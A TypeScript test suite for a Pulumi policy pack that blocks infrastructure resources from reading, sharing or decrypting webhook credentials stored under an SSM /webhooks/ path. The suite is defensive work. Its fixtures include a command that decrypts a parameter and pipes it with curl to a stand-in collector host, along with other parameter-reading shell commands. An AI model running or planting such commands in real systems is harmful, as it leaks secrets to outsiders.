import { unknownCheckingProxy } from "@pulumi/policy";
import * as assert from "node:assert/strict";
import { webhooksReferences } from "../policy/webhooksReferences";
import { listingHint, resourceViolations, urnOf } from "./support/policyRun";

const THIS_PROJECT = "codebuild-webhooks";
const OTHER_PROJECT = "billing-service";
const NAME = "/webhooks/jira/url";
const PARAMETER_ARN = `arn:aws:ssm:us-east-1:123456789012:parameter${NAME}`;
const WEBHOOKS_ARN = "arn:aws:ssm:us-east-1:123456789012:parameter/webhooks/*";
const PERMISSION_SET = {
  instanceArn: "arn:aws:sso:::instance/ssoins-1234567890abcdef",
  permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1234567890abcdef/ps-1234567890abcdef",
};

function document(...statements: Record<string, unknown>[]): string {
  return JSON.stringify({ Version: "2012-10-17", Statement: statements });
}

const READ_WEBHOOKS = document({ Effect: "Allow", Action: "ssm:GetParameter", Resource: WEBHOOKS_ARN });

/** The ARN of the path /webhooks itself, which GetParametersByPath reads whole. */
const PATH_ARN = "arn:aws:ssm:us-east-1:123456789012:parameter/webhooks";
const READ_BY_PATH = document({ Effect: "Allow", Action: "ssm:GetParametersByPath", Resource: PATH_ARN });

/** notifier-least-privilege on a read of a path above /webhooks/, in a stack of another project. */
function readByPath(label: string, resource = PATH_ARN): [string, string] {
  return [
    "notifier-least-privilege",
    readByAnotherProject(
      `${label} statement 1 allows ssm:GetParametersByPath on "${resource}" (a path above /webhooks/: ` +
        "GetParametersByPath reads every parameter below a path it may read)",
    ),
  ];
}

/** What the fail-closed rule says of a resource naming the parameters, `<type>::<name>` excepting it. */
function unjudged(subject: string, references: string, exception: string): string {
  return (
    `${subject} names the receiver parameters under /webhooks/: ${references}. The pack does not judge what ` +
    `resources of this type do with them, and fails closed: such a resource may read, share or hand out the ` +
    `receiver credentials. Remove the reference; or have the resource reviewed and add it, with the reason, to ` +
    `the exceptions of webhooks-access-judged in the pack's config: ` +
    `{"resource":"${exception}","reason":"<who reviewed it, and why>"}.`
  );
}

/** What notifier-least-privilege says of a read of /webhooks/ by no role's inline policy, in a stack of another project. */
function readByAnotherProject(grant: string, sweeping = false): string {
  return sweeping
    ? `${grant}, which also reaches the receiver credentials under /webhooks/. Name this stack's own parameters instead of a wildcard.`
    : `${grant}, which reaches the receiver credentials under /webhooks/: only the notifier of a codebuild-webhooks ` +
        `stack reads them. Remove this grant. ${listingHint(OTHER_PROJECT)}`;
}

/** notifier-least-privilege on a wildcard read that sweeps /webhooks/ in, in a stack of another project. */
function sweepingRead(label: string, resource: string): [string, string] {
  const reads = "ssm:GetParameter, ssm:GetParameters, ssm:GetParametersByPath, ssm:GetParameterHistory";
  return [
    "notifier-least-privilege",
    readByAnotherProject(`${label} statement 1 allows ${reads} on "${resource}"`, true),
  ];
}

/** A command that reads a receiver parameter and sends it elsewhere. */
const READ_COMMAND = `aws ssm get-parameter --with-decryption --name ${NAME} | curl -s --data-binary @- https://collector.example.net/in`;

/** A template's ECS task definition, "Task", whose container takes a secret from `valueFrom`. */
function taskWithSecret(valueFrom: object): Record<string, object> {
  const container = { Name: "app", Image: "busybox", Secrets: [{ Name: "URL", ValueFrom: valueFrom }] };
  return { Task: { Type: "AWS::ECS::TaskDefinition", Properties: { ContainerDefinitions: [container] } } };
}

/** A template body of one resource. */
function template(logicalId: string, type: string, properties: Record<string, unknown>): string {
  return JSON.stringify({
    Parameters: { Prefix: { Type: "String", Default: "webhooks" } },
    Resources: { [logicalId]: { Type: type, Properties: properties } },
  });
}

interface Row {
  /** What the row shows. */
  row: string;
  type: string;
  props: Record<string, unknown>;
  project?: string;
  /** Each violation the pack reports, as [policy, message]; none for a resource it lets through. */
  violations: [string, string][];
}

const NAME_OF = "subject";

/** Rows of a resource type the pack does not judge: the fail-closed rule speaks. */
function failsClosed(row: string, type: string, props: Record<string, unknown>, references: string): Row {
  return {
    row,
    type,
    props,
    violations: [
      [
        "webhooks-access-judged",
        unjudged(`Resource "${NAME_OF}" (${type})`, references, `${type}::${NAME_OF}`) +
          // A function of another project may be a renamed copy's notifier.
          (type === "aws:lambda/function:Function" ? ` ${listingHint(OTHER_PROJECT)}` : ""),
      ],
    ],
  };
}

const ROWS: Row[] = [
  // Grants the pack judges, whoever holds them: roles, users, groups, managed policies, permission sets.
  {
    row: "an IAM role's inline policy, in another project's stack",
    type: "aws:iam/role:Role",
    props: { assumeRolePolicy: "{}", inlinePolicies: [{ name: "read", policy: READ_WEBHOOKS }] },
    violations: [
      [
        "notifier-least-privilege",
        readByAnotherProject(`Inline policy "read" statement 1 allows ssm:GetParameter on "${WEBHOOKS_ARN}"`),
      ],
    ],
  },
  ...(["aws:iam/userPolicy:UserPolicy", "aws:iam/groupPolicy:GroupPolicy"] as const).map((type): Row => ({
    row: `an IAM ${type.endsWith("UserPolicy") ? "user" : "group"} policy`,
    type,
    props: { policy: READ_WEBHOOKS },
    violations: [
      [
        "notifier-least-privilege",
        readByAnotherProject(`Policy statement 1 allows ssm:GetParameter on "${WEBHOOKS_ARN}"`),
      ],
    ],
  })),
  {
    row: "a managed policy whose wildcard sweeps /webhooks/ in",
    type: "aws:iam/policy:Policy",
    props: {
      policy: document({
        Effect: "Allow",
        Action: "ssm:GetParameter*",
        Resource: "arn:aws:ssm:*:*:parameter/*",
      }),
    },
    violations: [sweepingRead("Policy", "arn:aws:ssm:*:*:parameter/*")],
  },
  {
    row: "a managed policy attached to a role of a codebuild-webhooks stack",
    type: "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
    props: { role: "notifier", policyArn: "arn:aws:iam::aws:policy/AmazonSSMReadOnlyAccess" },
    project: THIS_PROJECT,
    violations: [
      [
        "notifier-managed-policies",
        `Managed policy "arn:aws:iam::aws:policy/AmazonSSMReadOnlyAccess" is attached to a role. In a ` +
          `codebuild-webhooks stack the notifier's role may carry ` +
          `arn:<partition>:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole at most: the pack cannot see ` +
          `what other managed policies grant (AmazonSSMReadOnlyAccess or ReadOnlyAccess would let the notifier ` +
          `read every parameter). Detach it and grant only what the notifier uses in the role's inline policy.`,
      ],
    ],
  },
  {
    row: "an IAM Identity Center permission set's inline policy granting on *",
    type: "aws:ssoadmin/permissionSetInlinePolicy:PermissionSetInlinePolicy",
    props: {
      ...PERMISSION_SET,
      inlinePolicy: document({ Effect: "Allow", Action: "ssm:GetParameter*", Resource: "*" }),
    },
    violations: [sweepingRead("Policy", "*")],
  },
  {
    row: "an aws-native permission set with an inline policy",
    type: "aws-native:sso:PermissionSet",
    props: {
      instanceArn: PERMISSION_SET.instanceArn,
      name: "operators",
      inlinePolicy: JSON.parse(READ_WEBHOOKS),
    },
    violations: [
      [
        "notifier-least-privilege",
        readByAnotherProject(`Inline policy statement 1 allows ssm:GetParameter on "${WEBHOOKS_ARN}"`),
      ],
    ],
  },
  {
    row: "a customer managed policy on a permission set of a codebuild-webhooks stack",
    type: "aws:ssoadmin/customerManagedPolicyAttachment:CustomerManagedPolicyAttachment",
    props: { ...PERMISSION_SET, customerManagedPolicyReference: { name: "readers" } },
    project: THIS_PROJECT,
    violations: [
      [
        "notifier-managed-policies",
        `Customer managed policy "/readers" is attached to a permission set. In a codebuild-webhooks stack the ` +
          `notifier's role may carry arn:<partition>:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole at ` +
          `most: the pack cannot see what other managed policies grant (AmazonSSMReadOnlyAccess or ReadOnlyAccess ` +
          `would let the notifier read every parameter). Detach it and grant only what the notifier uses in the ` +
          `role's inline policy.`,
      ],
    ],
  },
  // A grant on a path above the parameters: GetParametersByPath is authorized by the path it names.
  ...(
    [
      ["a managed policy", "aws:iam/policy:Policy", { policy: READ_BY_PATH }, "Policy"],
      [
        "a role's inline policy",
        "aws:iam/rolePolicy:RolePolicy",
        { role: "reporting", policy: READ_BY_PATH },
        "Policy",
      ],
      [
        "a user's inline policy",
        "aws:iam/userPolicy:UserPolicy",
        { user: "ci", policy: READ_BY_PATH },
        "Policy",
      ],
      [
        "an IAM Identity Center permission set",
        "aws:ssoadmin/permissionSetInlinePolicy:PermissionSetInlinePolicy",
        { ...PERMISSION_SET, inlinePolicy: READ_BY_PATH },
        "Policy",
      ],
      [
        "an IAM role of a CloudFormation template",
        "aws:cloudformation/stack:Stack",
        {
          name: "reporting",
          templateBody: template("Reader", "AWS::IAM::Role", {
            Policies: [{ PolicyName: "read", PolicyDocument: JSON.parse(READ_BY_PATH) as object }],
          }),
        },
        'CloudFormation resource "Reader" (AWS::IAM::Role) inline policy "read"',
      ],
    ] as const
  ).map(([row, type, props, label]): Row => ({
    row: `${row} granting GetParametersByPath on the path /webhooks itself`,
    type,
    props,
    violations: [readByPath(label)],
  })),
  {
    row: "a managed policy granting GetParametersByPath on the root path /",
    type: "aws:iam/policy:Policy",
    props: {
      policy: document({
        Effect: "Allow",
        Action: "ssm:GetParametersByPath",
        Resource: "arn:aws:ssm:us-east-1:123456789012:parameter/",
      }),
    },
    violations: [readByPath("Policy", "arn:aws:ssm:us-east-1:123456789012:parameter/")],
  },
  // CloudFormation content, judged resource by resource; content the pack cannot read is refused.
  {
    row: "a CloudFormation stack whose role reads a path built with Fn::Sub",
    type: "aws:cloudformation/stack:Stack",
    props: {
      name: "ops",
      templateBody: template("Reader", "AWS::IAM::Role", {
        Policies: [
          {
            PolicyName: "read",
            PolicyDocument: {
              Statement: [
                {
                  Effect: "Allow",
                  Action: "ssm:GetParameter",
                  Resource: {
                    "Fn::Sub": "arn:aws:ssm:${AWS::Region}:${AWS::AccountId}:parameter/${Prefix}/*",
                  },
                },
              ],
            },
          },
        ],
      }),
    },
    violations: [
      [
        "notifier-least-privilege",
        readByAnotherProject(
          `CloudFormation resource "Reader" (AWS::IAM::Role) inline policy "read" statement 1 allows ` +
            `ssm:GetParameter on "arn:aws:ssm:\${AWS::Region}:\${AWS::AccountId}:parameter/webhooks/*"`,
        ),
      ],
    ],
  },
  {
    row: "a CloudFormation stack set sharing a parameter through RAM, its ARN built with Fn::Join",
    type: "aws:cloudformation/stackSet:StackSet",
    props: {
      name: "share",
      templateBody: template("Share", "AWS::RAM::ResourceShare", {
        Name: "receivers",
        Principals: ["210987654321"],
        ResourceArns: [
          {
            "Fn::Join": [
              "",
              ["arn:aws:ssm:", { Ref: "AWS::Region" }, ":", { Ref: "AWS::AccountId" }, ":parameter", NAME],
            ],
          },
        ],
      }),
    },
    violations: [
      [
        "webhooks-access-judged",
        unjudged(
          `CloudFormation resource "Share" (AWS::RAM::ResourceShare)`,
          `resourceArns[0] "arn:aws:ssm:\${AWS::Region}:\${AWS::AccountId}:parameter${NAME}"`,
          "aws:cloudformation/stackSet:StackSet::subject",
        ),
      ],
    ],
  },
  {
    row: "a Cloud Control resource of a type the pack does not judge",
    type: "aws:cloudcontrol/resource:Resource",
    props: {
      typeName: "AWS::RAM::ResourceShare",
      desiredState: JSON.stringify({ Name: "receivers", ResourceArns: [PARAMETER_ARN], Principals: ["*"] }),
    },
    violations: [
      [
        "webhooks-access-judged",
        unjudged(
          "Cloud Control resource (AWS::RAM::ResourceShare)",
          `resourceArns[0] "${PARAMETER_ARN}"`,
          "aws:cloudcontrol/resource:Resource::subject",
        ),
      ],
    ],
  },
  {
    row: "a Serverless Application Repository stack, deployed with IAM capabilities",
    type: "aws:serverlessrepository/cloudFormationStack:CloudFormationStack",
    props: {
      name: "reader",
      applicationId: "arn:aws:serverlessrepo:us-east-1:123456789012:applications/parameter-reader",
      capabilities: ["CAPABILITY_IAM"],
      parameters: { ParameterPath: "/webhooks/" },
    },
    violations: [
      [
        "cloudformation-readable",
        `The pack cannot read the template of Serverless Application Repository application ` +
          `"arn:aws:serverlessrepo:us-east-1:123456789012:applications/parameter-reader" (it lives in the ` +
          `repository), deployed with CAPABILITY_IAM: it may create IAM roles and policies, so it cannot tell ` +
          `whether that creates parameters under /webhooks/ or grants on them. Pass the template itself as ` +
          `templateBody, with transforms and nested stacks expanded, or create those resources with Pulumi.`,
      ],
    ],
  },
  // What a template says through functions the pack does not evaluate, or outside Properties.
  ...(
    [
      [
        "an instance's user data written as Fn::Base64 of Fn::Sub, with the path from a parameter",
        {
          Host: {
            Type: "AWS::EC2::Instance",
            Properties: {
              ImageId: "ami-0123456789abcdef0",
              UserData: {
                "Fn::Base64": {
                  "Fn::Sub": `#!/bin/bash\n${READ_COMMAND.replace("/webhooks/", "/${Prefix}/")}\n`,
                },
              },
            },
          },
        },
        `CloudFormation resource "Host" (AWS::EC2::Instance)`,
        `userData "${NAME}"`,
      ],
      [
        "a task definition's secret taken from Mappings with Fn::FindInMap",
        taskWithSecret({ "Fn::FindInMap": ["Secrets", "jira", "url"] }),
        `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
        `containerDefinitions[0].secrets[0].ValueFrom "${NAME}"`,
      ],
      [
        "a task definition's secret from Fn::FindInMap by a key the stack chooses",
        taskWithSecret({ "Fn::FindInMap": ["Secrets", { Ref: "Team" }, "url"] }),
        `CloudFormation resource "Task" (AWS::ECS::TaskDefinition)`,
        `Properties.ContainerDefinitions[0].Secrets[0].ValueFrom["Fn::FindInMap"].jira.url "${NAME}"`,
      ],
      [
        "a build's PARAMETER_STORE variable picked with Fn::Select, from a list or Fn::Split",
        {
          Build: {
            Type: "AWS::CodeBuild::Project",
            Properties: {
              Environment: {
                EnvironmentVariables: [
                  { Name: "A", Type: "PARAMETER_STORE", Value: { "Fn::Select": [0, [NAME]] } },
                  {
                    Name: "B",
                    Type: "PARAMETER_STORE",
                    Value: { "Fn::Select": [1, { "Fn::Split": [",", `x,${NAME}`] }] },
                  },
                ],
              },
            },
          },
        },
        `CloudFormation resource "Build" (AWS::CodeBuild::Project)`,
        `environment.EnvironmentVariables[0].Value "${NAME}"; environment.EnvironmentVariables[1].Value "${NAME}"`,
      ],
      [
        "a name inside a function the pack does not evaluate (Fn::GetAtt, Fn::ImportValue)",
        {
          Reader: {
            Type: "AWS::Lambda::Function",
            Properties: {
              Role: { "Fn::ImportValue": { "Fn::Sub": "reader-role" } },
              Environment: {
                Variables: { URL: { "Fn::GetAtt": [{ "Fn::Sub": "/${Prefix}/jira/url" }, "Value"] } },
              },
            },
          },
        },
        `CloudFormation resource "Reader" (AWS::Lambda::Function)`,
        `Properties.Environment.Variables.URL["Fn::GetAtt"][0] "${NAME}"`,
      ],
      [
        "an instance's AWS::CloudFormation::Init command, in its Metadata, run by cfn-init",
        {
          Host: {
            Type: "AWS::EC2::Instance",
            Metadata: {
              "AWS::CloudFormation::Init": {
                config: { commands: { "01-report": { command: READ_COMMAND } } },
              },
            },
            Properties: { ImageId: "ami-0123456789abcdef0" },
          },
        },
        `CloudFormation resource "Host" (AWS::EC2::Instance)`,
        `Metadata["AWS::CloudFormation::Init"].config.commands["01-report"].command "${NAME}"`,
      ],
      [
        "a launch template's Metadata behind an Fn::If",
        {
          Launch: {
            Type: "AWS::EC2::LaunchTemplate",
            Metadata: { Commands: { "Fn::If": ["Never", [READ_COMMAND], []] } },
            Properties: { LaunchTemplateData: { ImageId: "ami-0123456789abcdef0" } },
          },
        },
        `CloudFormation resource "Launch" (AWS::EC2::LaunchTemplate)`,
        `Metadata.Commands[0] "${NAME}"`,
      ],
    ] as const
  ).map(([row, resources, subject, references]): Row => {
    const type = "aws:cloudformation/stack:Stack";
    return {
      row: `a CloudFormation template: ${row}`,
      type,
      props: {
        name: "reporting",
        templateBody: JSON.stringify({
          Parameters: { Prefix: { Type: "String", Default: "webhooks" }, Team: { Type: "String" } },
          Mappings: { Secrets: { jira: { url: NAME } } },
          Conditions: { Never: { "Fn::Equals": ["a", "b"] } },
          Resources: resources,
        }),
      },
      violations: [["webhooks-access-judged", unjudged(subject, references, `${type}::${NAME_OF}`)]],
    };
  }),
  failsClosed(
    "a stack set instance passing /webhooks/ to its template",
    "aws:cloudformation/stackSetInstance:StackSetInstance",
    { stackSetName: "params", parameterOverrides: { Prefix: "/webhooks/" } },
    `parameterOverrides.Prefix "/webhooks/"`,
  ),
  // Sharing: AWS RAM.
  failsClosed(
    "a RAM resource association of a parameter",
    "aws:ram/resourceAssociation:ResourceAssociation",
    { resourceArn: PARAMETER_ARN, resourceShareArn: "arn:aws:ram:us-east-1:123456789012:resource-share/1" },
    `resourceArn "${PARAMETER_ARN}"`,
  ),
  failsClosed(
    "a RAM share's exclusive associations",
    "aws:ram/resourceShareAssociationsExclusive:ResourceShareAssociationsExclusive",
    {
      resourceShareArn: "arn:aws:ram:us-east-1:123456789012:resource-share/1",
      principals: ["210987654321"],
      resourceArns: [PARAMETER_ARN],
    },
    `resourceArns[0] "${PARAMETER_ARN}"`,
  ),
  failsClosed(
    "an aws-native RAM resource share",
    "aws-native:ram:ResourceShare",
    { name: "receivers", principals: ["210987654321"], resourceArns: [PARAMETER_ARN] },
    `resourceArns[0] "${PARAMETER_ARN}"`,
  ),
  // KMS: who may decrypt the SecureStrings.
  failsClosed(
    "a KMS grant held to a receiver parameter's encryption context",
    "aws:kms/grant:Grant",
    {
      keyId: "1234abcd-12ab-34cd-56ef-1234567890ab",
      granteePrincipal: "arn:aws:iam::123456789012:role/reader",
      operations: ["Decrypt"],
      constraints: [{ encryptionContextEquals: { PARAMETER_ARN } }],
    },
    `constraints[0].encryptionContextEquals.PARAMETER_ARN "${PARAMETER_ARN}"`,
  ),
  failsClosed(
    "a KMS key policy whose condition's wildcard covers every parameter",
    "aws:kms/key:Key",
    {
      policy: document({
        Sid: "Decrypt",
        Effect: "Allow",
        Principal: { AWS: "arn:aws:iam::123456789012:role/reader" },
        Action: "kms:Decrypt",
        Resource: "*",
        Condition: { StringLike: { "kms:EncryptionContext:PARAMETER_ARN": "arn:aws:ssm:*:*:*" } },
      }),
    },
    `policy.Statement[0].Condition.StringLike["kms:EncryptionContext:PARAMETER_ARN"] "arn:aws:ssm:*:*:*"`,
  ),
  failsClosed(
    "a KMS key policy of its own resource",
    "aws:kms/keyPolicy:KeyPolicy",
    {
      keyId: "1234abcd-12ab-34cd-56ef-1234567890ab",
      policy: document({
        Effect: "Allow",
        Principal: { AWS: "*" },
        Action: "kms:Decrypt",
        Resource: "*",
        Condition: { StringLike: { "kms:EncryptionContext:PARAMETER_ARN": WEBHOOKS_ARN } },
      }),
    },
    `policy.Statement[0].Condition.StringLike["kms:EncryptionContext:PARAMETER_ARN"] "${WEBHOOKS_ARN}"`,
  ),
  // Resource policies and session policies: a statement granting on "*" covers the path.
  failsClosed(
    "a resource policy allowing every action on *",
    "aws:sqs/queuePolicy:QueuePolicy",
    {
      queueUrl: "https://sqs.us-east-1.amazonaws.com/123456789012/jobs",
      policy: document({ Effect: "Allow", Principal: "*", Action: "*", Resource: "*" }),
    },
    `policy.Statement[0] allows ssm:GetParameter, ssm:GetParameters, ssm:GetParametersByPath, ` +
      `ssm:GetParameterHistory, ssm:PutParameter, ssm:DeleteParameter, ssm:DeleteParameters, ` +
      `ssm:LabelParameterVersion, ssm:UnlabelParameterVersion, ssm:AddTagsToResource, ` +
      `ssm:RemoveTagsFromResource, ssm:PutResourcePolicy, ssm:DeleteResourcePolicy on "*"`,
  ),
  failsClosed(
    "a Transfer Family user's session policy",
    "aws:transfer/user:User",
    {
      serverId: "s-1234567890abcdef0",
      userName: "partner",
      role: "arn:aws:iam::123456789012:role/transfer",
      policy: document({
        Effect: "Allow",
        Action: "ssm:GetParameter",
        NotResource: "arn:aws:ssm:*:*:parameter/ci/*",
      }),
    },
    `policy.Statement[0] allows ssm:GetParameter on every resource but ["arn:aws:ssm:*:*:parameter/ci/*"]`,
  ),
  // Lambda: functions of other projects, and permissions.
  failsClosed(
    "a function of another project naming a parameter in its environment",
    "aws:lambda/function:Function",
    {
      role: "arn:aws:iam::123456789012:role/reporter",
      environment: { variables: { JIRA_URL_PARAMETER: NAME } },
    },
    `environment.variables.JIRA_URL_PARAMETER "${NAME}"`,
  ),
  failsClosed(
    "a function naming a parameter percent-encoded",
    "aws:lambda/function:Function",
    {
      role: "arn:aws:iam::123456789012:role/reporter",
      environment: { variables: { P: "%2Fwebhooks%2Fjira%2Furl" } },
    },
    `environment.variables.P "${NAME}"`,
  ),
  {
    row: "a Lambda permission",
    type: "aws:lambda/permission:Permission",
    props: { action: "lambda:InvokeFunction", function: "reporter", principal: "events.amazonaws.com" },
    violations: [],
  },
  // SSM documents and associations, and what runs code with a role: tasks, builds, instances, workflows.
  failsClosed(
    "an SSM document reading a parameter",
    "aws:ssm/document:Document",
    {
      name: "rotate",
      documentType: "Command",
      documentFormat: "YAML",
      content: [
        "schemaVersion: '2.2'",
        "mainSteps:",
        "  - action: aws:runShellScript",
        "    name: post",
        "    inputs:",
        "      runCommand: ['curl -X POST {{ssm:/webhooks/jira/url}}']",
      ].join("\n"),
    },
    `content "${NAME}"`,
  ),
  failsClosed(
    "an SSM association's parameters",
    "aws:ssm/association:Association",
    {
      name: "AWS-RunShellScript",
      parameters: { commands: `aws ssm get-parameter --name ${NAME} --with-decryption` },
    },
    `parameters.commands "${NAME}"`,
  ),
  failsClosed(
    "an ECS task's secrets",
    "aws:ecs/taskDefinition:TaskDefinition",
    {
      family: "reporter",
      containerDefinitions: JSON.stringify([
        { name: "app", image: "reporter", secrets: [{ name: "JIRA_URL", valueFrom: PARAMETER_ARN }] },
      ]),
    },
    `containerDefinitions[0].secrets[0].valueFrom "${PARAMETER_ARN}"`,
  ),
  failsClosed(
    "a CodeBuild project's parameter store variable",
    "aws:codebuild/project:Project",
    {
      environment: {
        computeType: "BUILD_GENERAL1_SMALL",
        image: "aws/codebuild/standard:7.0",
        type: "LINUX_CONTAINER",
        environmentVariables: [{ name: "JIRA_URL", type: "PARAMETER_STORE", value: NAME }],
      },
    },
    `environment.environmentVariables[0].value "${NAME}"`,
  ),
  failsClosed(
    "a state machine calling GetParameter",
    "aws:sfn/stateMachine:StateMachine",
    {
      roleArn: "arn:aws:iam::123456789012:role/workflow",
      definition: JSON.stringify({
        StartAt: "Read",
        States: {
          Read: {
            Type: "Task",
            Resource: "arn:aws:states:::aws-sdk:ssm:getParameter",
            Parameters: { Name: NAME, WithDecryption: true },
            End: true,
          },
        },
      }),
    },
    `definition.States.Read.Parameters.Name "${NAME}"`,
  ),
  failsClosed(
    "an instance's user data script",
    "aws:ec2/instance:Instance",
    {
      ami: "ami-0abcdef1234567890",
      instanceType: "t3.micro",
      userData: `#!/bin/sh\nURL=$(aws ssm get-parameter --name ${NAME} --with-decryption)\n`,
    },
    `userData "${NAME}"`,
  ),
  // The path itself, as GetParametersByPath reads it whole.
  failsClosed(
    "an SSM association reading the path /webhooks recursively",
    "aws:ssm/association:Association",
    {
      name: "AWS-RunShellScript",
      targets: [{ key: "InstanceIds", values: ["*"] }],
      parameters: {
        commands: "aws ssm get-parameters-by-path --path /webhooks --recursive --with-decryption",
      },
    },
    `parameters.commands "/webhooks"`,
  ),
  failsClosed(
    "a state machine calling GetParametersByPath on /webhooks",
    "aws:sfn/stateMachine:StateMachine",
    {
      roleArn: "arn:aws:iam::123456789012:role/reporting-states",
      definition: JSON.stringify({
        StartAt: "Read",
        States: {
          Read: {
            Type: "Task",
            Resource: "arn:aws:states:::aws-sdk:ssm:getParametersByPath",
            Parameters: { Path: "/webhooks", Recursive: true, WithDecryption: true },
            End: true,
          },
        },
      }),
    },
    `definition.States.Read.Parameters.Path "/webhooks"`,
  ),
  // Encodings: each escape decoded on its own, any text's escapes, layers within layers.
  failsClosed(
    "an API Gateway integration calling Parameter Store, the name percent-encoded beside a Latin-1 escape",
    "aws:apigateway/integration:Integration",
    {
      restApi: "abc123",
      resourceId: "r1",
      httpMethod: "GET",
      type: "AWS",
      integrationHttpMethod: "GET",
      uri:
        "arn:aws:apigateway:us-east-1:ssm:path//?Action=GetParameter&Name=%2Fwebhooks%2Fjira%2Furl" +
        "&WithDecryption=true&Note=d%E9ploiement",
    },
    `uri "${NAME}"`,
  ),
  failsClosed(
    "a task definition naming a parameter percent-encoded beside a literal percent sign",
    "aws:ecs/taskDefinition:TaskDefinition",
    {
      family: "reporting",
      containerDefinitions: JSON.stringify([
        {
          name: "app",
          image: "busybox",
          command: ["sh", "-c", 'curl "https://ssm-proxy.internal/get?name=%2Fwebhooks%2Fjira%2Furl" # 100%'],
        },
      ]),
    },
    `containerDefinitions[0].command[2] "${NAME}"`,
  ),
  failsClosed(
    "an SSM document in YAML naming a parameter with YAML's escapes",
    "aws:ssm/document:Document",
    {
      name: "report",
      documentType: "Command",
      documentFormat: "YAML",
      content: [
        'schemaVersion: "2.2"',
        "mainSteps:",
        "  - action: aws:runShellScript",
        "    name: report",
        "    inputs:",
        "      runCommand:",
        '        - "aws ssm get-parameter --name \\u002fwebhooks\\u002fjira\\x2furl"',
      ].join("\n"),
    },
    `content "${NAME}"`,
  ),
  failsClosed(
    "an instance's user data naming a parameter encoded twice, and with HTML references and escaped slashes",
    "aws:ec2/instance:Instance",
    {
      ami: "ami-0abcdef1234567890",
      instanceType: "t3.micro",
      userData: [
        "curl https://proxy.internal/get?name=%252Fwebhooks%252Fjira%252Furl",
        "echo &#47;webhooks&#x2F;jira&#47;url",
        'echo "\\/webhooks\\/jira\\/url" "\\U0000002fwebhooks/jira/url"',
      ].join("\n"),
    },
    `userData "${NAME}"`,
  ),
  // Resources that name nothing of /webhooks/, or only limit what others may do, go through.
  {
    row: "a log group whose name has a webhooks segment",
    type: "aws:cloudwatch/logGroup:LogGroup",
    props: { name: "/aws/lambda/webhooks/receiver", retentionInDays: 30 },
    violations: [],
  },
  {
    row: "a log group whose name only starts like the path, and text with a malformed escape",
    type: "aws:cloudwatch/logGroup:LogGroup",
    props: { name: "/webhooks-archive/app", tags: { note: "100% of /webhooksx%E9 builds" } },
    violations: [],
  },
  {
    row: "a bucket with CORS for every origin",
    type: "aws:s3/bucket:Bucket",
    props: {
      bucket: "site",
      corsRules: [{ allowedHeaders: ["*"], allowedMethods: ["GET"], allowedOrigins: ["*"] }],
    },
    violations: [],
  },
  {
    row: "a bucket policy that names no parameter",
    type: "aws:s3/bucketPolicy:BucketPolicy",
    props: {
      bucket: "site",
      policy: document({
        Effect: "Allow",
        Principal: "*",
        Action: "s3:GetObject",
        Resource: "arn:aws:s3:::site/*",
      }),
    },
    violations: [],
  },
  {
    row: "a KMS key with the account's usual key policy",
    type: "aws:kms/key:Key",
    props: {
      policy: document({
        Effect: "Allow",
        Principal: { AWS: "arn:aws:iam::123456789012:root" },
        Action: "kms:*",
        Resource: "*",
      }),
    },
    violations: [],
  },
  {
    row: "a queue policy denying sends to all but one role",
    type: "aws:sqs/queuePolicy:QueuePolicy",
    props: {
      queueUrl: "https://sqs.us-east-1.amazonaws.com/123456789012/dead-letters",
      policy: document({
        Effect: "Deny",
        Principal: "*",
        Action: "sqs:SendMessage",
        Resource: "arn:aws:sqs:us-east-1:123456789012:dead-letters",
        Condition: { ArnNotEquals: { "aws:PrincipalArn": "arn:aws:iam::123456789012:role/notifier" } },
      }),
    },
    violations: [],
  },
  {
    row: "a function posting to a URL whose path has a webhooks segment",
    type: "aws:lambda/function:Function",
    props: { environment: { variables: { CHAT_URL: "https://chat.example.com/api/webhooks/123/abc" } } },
    violations: [],
  },
  {
    row: "a schedule and a load balancer's path pattern, whose wildcards name no ARN",
    type: "aws:lb/listenerRule:ListenerRule",
    props: { conditions: [{ pathPattern: { values: ["/*"] } }], tags: { schedule: "cron(0 * * * ? *)" } },
    violations: [],
  },
  {
    row: "an organization policy, which only limits",
    type: "aws:organizations/policy:Policy",
    props: {
      content: document(
        { Effect: "Allow", Action: "*", Resource: "*" },
        { Effect: "Deny", Action: "ssm:PutParameter", Resource: "arn:aws:ssm:*:*:parameter/webhooks/*" },
      ),
    },
    violations: [],
  },
  {
    row: "a VPC endpoint policy, which only limits",
    type: "aws:ec2/vpcEndpoint:VpcEndpoint",
    props: {
      serviceName: "com.amazonaws.us-east-1.ssm",
      policy: document({
        Effect: "Allow",
        Principal: "*",
        Action: "ssm:GetParameters",
        Resource: WEBHOOKS_ARN,
      }),
    },
    violations: [],
  },
  {
    row: "the notifier of a codebuild-webhooks stack, reading its parameter path",
    type: "aws:lambda/function:Function",
    props: {
      role: "arn:aws:iam::123456789012:role/notifier",
      environment: { variables: { PARAMETER_PATH: "/webhooks/" } },
    },
    project: THIS_PROJECT,
    violations: [],
  },
  {
    row: "a parameter of another project whose value names a receiver parameter",
    type: "aws:ssm/parameter:Parameter",
    props: { name: "/ci/jira-parameter", type: "String", value: NAME },
    violations: [],
  },
];

describe("resources that name the receiver parameters (policy pack)", () => {
  for (const { row, type, props, project = OTHER_PROJECT, violations } of ROWS) {
    it(`${violations.length === 0 ? "passes" : "blocks"} ${row}`, async () => {
      assert.deepEqual(
        (await resourceViolations({ type, name: NAME_OF, props }, project)).map(({ policy, message }) => [
          policy,
          message,
        ]),
        violations,
      );
    });
  }

  describe("a resource the pack cannot judge, excepted in the pack's config", () => {
    const share = {
      type: "aws:ram/resourceAssociation:ResourceAssociation",
      name: "receivers-to-ops",
      props: {
        resourceArn: PARAMETER_ARN,
        resourceShareArn: "arn:aws:ram:us-east-1:123456789012:resource-share/1",
      },
    };
    const excepting = (...exceptions: object[]) => ({ "webhooks-access-judged": { exceptions } });
    const reason = "Reviewed by the security team: the ops account's break-glass role reads the Jira URL.";

    it("passes by <type>::<name> or by URN, with a reason", async () => {
      for (const resource of [`${share.type}::${share.name}`, urnOf(share, OTHER_PROJECT)]) {
        assert.deepEqual(await resourceViolations(share, OTHER_PROJECT, excepting({ resource, reason })), []);
      }
    });

    it("still blocks it when the exception gives no reason a reviewer can read, or names another resource", async () => {
      const [blocked] = await resourceViolations(share, OTHER_PROJECT);
      // Spaces, punctuation, and characters that show nothing: a zero-width space, a word joiner, a
      // soft hyphen, a bidi mark.
